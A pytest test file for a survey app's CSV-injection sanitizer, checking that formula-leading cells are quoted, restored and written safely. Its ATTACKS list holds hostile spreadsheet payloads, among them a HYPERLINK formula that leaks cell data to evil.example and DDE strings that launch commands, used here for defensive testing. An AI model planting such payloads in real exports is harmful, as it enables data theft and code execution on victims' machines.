"""``surveyapp.csv_safe``: OWASP's CSV-injection rule, cell by cell and through the writer."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pytest

from surveyapp import csv_safe
from surveyapp.csv_safe import restore_cell, safe_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"点击领取补贴")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-3",  # a number written as text is text: quoted too
    "-",
    "=",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_start_is_quoted_and_restored(text):
    cell = safe_cell(text)
    assert cell == "'" + text
    assert restore_cell(cell) == text


@pytest.mark.parametrize(
    "text",
    ["", "服务很好", "138****5678", "2026-11-25T13:00:00", "60+", "a=b", " =1", "'quoted", "3"],
)
def test_other_texts_are_left_alone(text):
    assert safe_cell(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize(
    "value", [None, -3, -0.5, 0, 12.5, Decimal("-1.25"), np.float64(-2.5), np.int64(-7), True]
)
def test_numbers_written_as_numbers_stay_numbers(value):
    assert safe_cell(value) is value


def test_other_objects_become_their_text_made_safe():
    class Label:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Label()) == "'=1+1"


def test_a_quote_the_resident_typed_before_a_formula_is_the_one_text_not_restored():
    """``'=x`` is written as it is (it does not start with a formula character) and read
    back as ``=x``: the one text that does not survive a round trip, documented."""
    assert safe_cell("'=x") == "'=x"
    assert restore_cell("'=x") == "=x"


def _written(rows, **fmtparams) -> str:
    out = io.StringIO()
    csv_safe.writer(out, **fmtparams).writerows(rows)
    return out.getvalue()


def test_the_writer_quotes_every_cell_that_needs_it_and_keeps_numbers():
    text = _written(
        [
            ["id", "answer", "change"],
            ["r1", "=1+1", -3.5],
            ["r2", "fine", None],
            ("r3", "\t=2", -3),
            iter(["-r4", "@x", "+y"]),  # any iterable, as csv.writer takes
        ],
        lineterminator="\n",
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["id", "answer", "change"],
        ["r1", "'=1+1", "-3.5"],
        ["r2", "fine", ""],
        ["r3", "'\t=2", "-3"],
        ["'-r4", "'@x", "'+y"],
    ]
    assert [[restore_cell(c) for c in row] for row in rows[1:]][3] == ["-r4", "@x", "+y"]


def test_the_writer_agrees_with_safe_cell_on_every_row():
    """The whole-row shortcut gives the same file as a call per cell."""
    rows = [[a, b] for a in ATTACKS + ["ok", "", "x\x00=1"] for b in ["ok", "=2", 5, None]]
    out = io.StringIO()
    csv.writer(out).writerows([[safe_cell(v) for v in row] for row in rows])
    assert _written(rows) == out.getvalue()
